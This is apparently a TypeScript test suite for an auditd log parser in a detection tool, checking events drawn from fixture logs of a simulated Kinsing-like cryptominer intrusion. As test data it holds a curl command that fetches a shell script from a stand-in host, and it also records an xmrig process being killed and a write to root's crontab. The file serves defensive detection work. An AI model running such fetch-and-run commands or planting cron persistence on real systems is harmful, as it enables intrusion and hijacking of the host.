import assert from 'node:assert/strict';
import { test } from 'node:test';
import { auditd } from './auditd.js';
import { fileInput, memoryInput, readAll, runSourceContract } from './contract.js';

const good = fileInput('test/fixtures/auditd/good.log', { hostHint: 'web-01' });
runSourceContract({ source: auditd, good, bad: fileInput('test/fixtures/auditd/bad.log') });

test('groups interleaved records by serial and decodes hex arguments', async () => {
  const { events } = await readAll(auditd, good);
  const exec = events.find((e) => e.process?.pid === 1305 && e.event.action === 'exec');
  assert.deepEqual(exec?.process?.args, ['curl', '-s', 'http://203.0.113.9/x y.sh']);
  assert.equal(exec?.process?.working_directory, '/root');
  assert.equal(exec?.process?.parent?.pid, 1201);
  assert.equal(exec?.coalmine.ref.line, 1);
  const connect = events.find((e) => e.process?.pid === 1305 && e.event.action === 'connect');
  assert.deepEqual(connect?.destination, { port: 80, ip: '203.0.113.9' });
});

test('decodes IPv6 socket addresses and uses ENRICHED fields', async () => {
  const { events } = await readAll(auditd, good);
  const v6 = events.find((e) => e.process?.pid === 900);
  assert.deepEqual(v6?.destination, { port: 3333, ip: '2001:67c:4e8::15' });
  assert.equal(v6?.event.outcome, 'success', 'EINPROGRESS is a normal non-blocking connect');
  assert.equal(v6?.process?.user?.name, 'root');
});

test('links a kill to its victim through OBJ_PID, and reads file writes', async () => {
  const { events } = await readAll(auditd, good);
  const kill = events.find((e) => e.event.action === 'kill');
  assert.deepEqual(kill?.process?.target, { pid: 777, signal: 9, name: 'xmrig' });
  const write = events.find((e) => e.event.action === 'file-write');
  assert.equal(write?.file?.path, '/var/spool/cron/crontabs/root');
});

test('node= prefixes name the host; duplicates and unused record types produce nothing extra', async () => {
  const { events } = await readAll(auditd, good);
  assert.equal(events.find((e) => e.process?.pid === 42)?.host?.name, 'db-02');
  assert.equal(events.find((e) => e.process?.pid === 1305)?.host?.name, 'web-01');
  assert.equal(events.length, 6);
});

test('bad records are reported with their line and reason', async () => {
  const { issues } = await readAll(auditd, fileInput('test/fixtures/auditd/bad.log'));
  const codes = issues.map((i) => `${i.line}:${i.code}`);
  assert.ok(codes.includes('4:AUDITD_BAD_RECORD'), codes.join(' '));
  assert.ok(codes.includes('5:AUDITD_BAD_RECORD'), codes.join(' '));
  assert.ok(
    codes.some((c) => c.endsWith('AUDITD_BAD_HEX')),
    codes.join(' '),
  );
  assert.ok(
    codes.some((c) => c.endsWith('AUDITD_NO_SYSCALL')),
    codes.join(' '),
  );
});

test('a record split across read chunks is still grouped (records arrive byte by byte)', async () => {
  const text = (await import('node:fs')).readFileSync('test/fixtures/auditd/good.log');
  const input = memoryInput('tiny-chunks.log', text, {
    hostHint: 'web-01',
    async *open() {
      for (let i = 0; i < text.length; i += 13) yield text.subarray(i, i + 13);
    },
  });
  const a = await readAll(auditd, input);
  const b = await readAll(auditd, good);
  assert.equal(a.events.length, b.events.length);
});

test('reads the bundled example: every exec, connect, kill and cron write', async () => {
  const { events, issues } = await readAll(
    auditd,
    fileInput('examples/kinsing-like/var/log/audit/audit.log', { hostHint: 'web-01' }),
  );
  assert.deepEqual(issues, []);
  const count = (a: string) => events.filter((e) => e.event.action === a).length;
  assert.deepEqual([count('exec'), count('connect'), count('kill'), count('file-write')], [11, 3, 1, 1]);
});
